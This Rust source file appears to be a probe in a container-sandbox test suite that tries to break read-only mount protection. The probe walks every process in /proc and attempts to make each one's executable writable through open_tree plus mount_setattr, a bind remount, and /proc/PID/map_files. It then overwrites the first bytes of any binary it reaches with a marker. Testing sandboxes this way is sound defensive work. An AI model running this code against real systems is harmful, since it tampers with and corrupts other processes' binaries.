//! `probe unlock-exe SECONDS STOPFILE [PATH...]`: the attack on a binary
//! that is protected only by the read-only mount it sits on. A process
//! holding CAP_SYS_ADMIN tries to get a writable view of every other
//! process's /proc/PID/exe (and of each PATH, the test's control):
//!
//! - open_tree(OPEN_TREE_CLONE) of the file, then mount_setattr clearing
//!   MOUNT_ATTR_RDONLY on the clone, then a write-open through it;
//! - mount(MS_REMOUNT|MS_BIND) without MS_RDONLY on the magic link;
//! - a write-open of /proc/PID/map_files/* naming the same file.
//!
//! A write-open that succeeds gets `HUNTER` written over its first bytes
//! (the tests attack a throwaway copy). Targets whose link names the
//! fixture's own /bin/busybox or /bin/probe are skipped: the container can
//! make its own root writable with CAP_SYS_ADMIN, which proves nothing.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::time::{Duration, Instant};

use crate::json::Json;
use crate::{close, errno, open_raw, readlink, strerror};

const OPEN_TREE_CLONE: libc::c_uint = 1;
const MOUNT_ATTR_RDONLY: u64 = 1;

#[repr(C)]
struct MountAttr {
    attr_set: u64,
    attr_clr: u64,
    propagation: u64,
    userns_fd: u64,
}

fn cpath(p: &str) -> std::ffi::CString {
    std::ffi::CString::new(p).unwrap_or_default()
}

/// A detached clone of the mount `path` is on, rooted at `path`.
fn open_tree_clone(path: &str) -> Result<i32, i32> {
    let c = cpath(path);
    // SAFETY: a valid NUL-terminated path; the kernel returns a new fd.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_open_tree,
            libc::AT_FDCWD,
            c.as_ptr(),
            OPEN_TREE_CLONE | libc::O_CLOEXEC as libc::c_uint,
        )
    };
    if fd < 0 { Err(errno()) } else { Ok(fd as i32) }
}

/// Clears MOUNT_ATTR_RDONLY on the mount `fd` is.
fn clear_rdonly(fd: i32) -> Result<(), i32> {
    let attr = MountAttr {
        attr_set: 0,
        attr_clr: MOUNT_ATTR_RDONLY,
        propagation: 0,
        userns_fd: 0,
    };
    // SAFETY: an fd we own, an empty path with AT_EMPTY_PATH, and a
    // struct of the size passed, alive for the call.
    let r = unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            fd,
            c"".as_ptr(),
            libc::AT_EMPTY_PATH,
            &attr as *const MountAttr,
            std::mem::size_of::<MountAttr>(),
        )
    };
    if r < 0 { Err(errno()) } else { Ok(()) }
}

/// mount(MS_REMOUNT|MS_BIND) without MS_RDONLY: the bind made writable.
fn remount_rw(path: &str) -> Result<(), i32> {
    let c = cpath(path);
    // SAFETY: a valid path; no source, type or data.
    let r = unsafe {
        libc::mount(
            std::ptr::null(),
            c.as_ptr(),
            std::ptr::null(),
            libc::MS_REMOUNT | libc::MS_BIND,
            std::ptr::null(),
        )
    };
    if r < 0 { Err(errno()) } else { Ok(()) }
}

struct Attack {
    errors: BTreeMap<String, u64>,
    caught: BTreeSet<String>,
    unlocked: Vec<(i32, String)>,
    unlocked_names: BTreeSet<String>,
    write_opens: BTreeSet<String>,
    writes: BTreeSet<String>,
}

impl Attack {
    fn err(&mut self, what: &str, e: i32) {
        *self
            .errors
            .entry(format!("{what}: {}", strerror(e)))
            .or_default() += 1;
    }

    fn overwrite(&mut self, fd: i32, what: String) {
        let marker = b"HUNTER";
        // SAFETY: writes from a live buffer into an fd we own.
        let n = unsafe { libc::pwrite(fd, marker.as_ptr().cast(), marker.len(), 0) };
        let r = if n < 0 {
            strerror(errno())
        } else {
            format!("{n} bytes")
        };
        self.writes.insert(format!("{what}: {r}"));
        self.write_opens.insert(what);
        close(fd);
    }

    fn one(&mut self, path: &str, target: &str) {
        self.caught.insert(target.to_string());
        match open_tree_clone(path) {
            Err(e) => self.err("open_tree", e),
            Ok(fd) => match clear_rdonly(fd) {
                Err(e) => {
                    self.err("mount_setattr", e);
                    close(fd);
                }
                Ok(()) if self.unlocked_names.insert(target.to_string()) => {
                    self.unlocked.push((fd, target.to_string()))
                }
                Ok(()) => close(fd),
            },
        }
        match remount_rw(path) {
            Err(e) => self.err("remount", e),
            Ok(()) => match open_raw(path, libc::O_WRONLY | libc::O_NONBLOCK) {
                Ok(w) => self.overwrite(w, format!("remounted {path} -> {target}")),
                Err(e) => self.err("write-open after remount", e),
            },
        }
    }

    fn map_files(&mut self, pid: &str, target: &str) {
        let dir = format!("/proc/{pid}/map_files");
        let Ok(rd) = fs::read_dir(&dir) else { return };
        for e in rd.flatten() {
            let p = format!("{dir}/{}", e.file_name().to_string_lossy());
            match open_raw(&p, libc::O_WRONLY | libc::O_NONBLOCK) {
                Ok(w) if readlink(&p).as_deref() == Some(target) => {
                    self.overwrite(w, format!("{p} -> {target}"))
                }
                Ok(w) => close(w),
                Err(e) => self.err("map_files write-open", e),
            }
        }
    }

    /// Write-opens through every unlocked clone (ETXTBSY while the file
    /// runs: retried each round).
    fn retry(&mut self) {
        let held = std::mem::take(&mut self.unlocked);
        for (fd, target) in &held {
            match open_raw(
                &format!("/proc/self/fd/{fd}"),
                libc::O_WRONLY | libc::O_NONBLOCK,
            ) {
                Ok(w) => self.overwrite(w, format!("unlocked clone of {target}")),
                Err(e) => self.err("write-open of an unlocked clone", e),
            }
        }
        self.unlocked = held;
    }
}

pub fn unlock_exe(seconds: f64, stop: &str, paths: &[&str]) -> Json {
    let me = std::process::id().to_string();
    let deadline = Instant::now() + Duration::from_secs_f64(seconds);
    let mut a = Attack {
        errors: BTreeMap::new(),
        caught: BTreeSet::new(),
        unlocked: Vec::new(),
        unlocked_names: BTreeSet::new(),
        write_opens: BTreeSet::new(),
        writes: BTreeSet::new(),
    };
    let mut rounds = 0u64;
    while Instant::now() < deadline && fs::metadata(stop).is_err() {
        rounds += 1;
        for p in paths {
            a.one(p, p);
        }
        let Ok(rd) = fs::read_dir("/proc") else { break };
        for e in rd.flatten() {
            let pid = e.file_name().to_string_lossy().into_owned();
            if pid == me || !pid.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            let Some(target) = readlink(&exe) else {
                continue;
            };
            if matches!(target.as_str(), "/bin/busybox" | "/bin/probe") {
                continue;
            }
            a.one(&exe, &target);
            a.map_files(&pid, &target);
        }
        a.retry();
    }
    std::thread::sleep(Duration::from_millis(200));
    a.retry();
    let mut errs = Json::obj();
    for (k, v) in &a.errors {
        errs.push(k, *v);
    }
    let list = |s: BTreeSet<String>| s.into_iter().collect::<Vec<String>>();
    Json::obj()
        .set("rounds", rounds)
        .set("errors", errs)
        .set("caught", list(a.caught))
        .set("unlocked", list(a.unlocked_names))
        .set("write_opens", list(a.write_opens))
        .set("writes", list(a.writes))
}
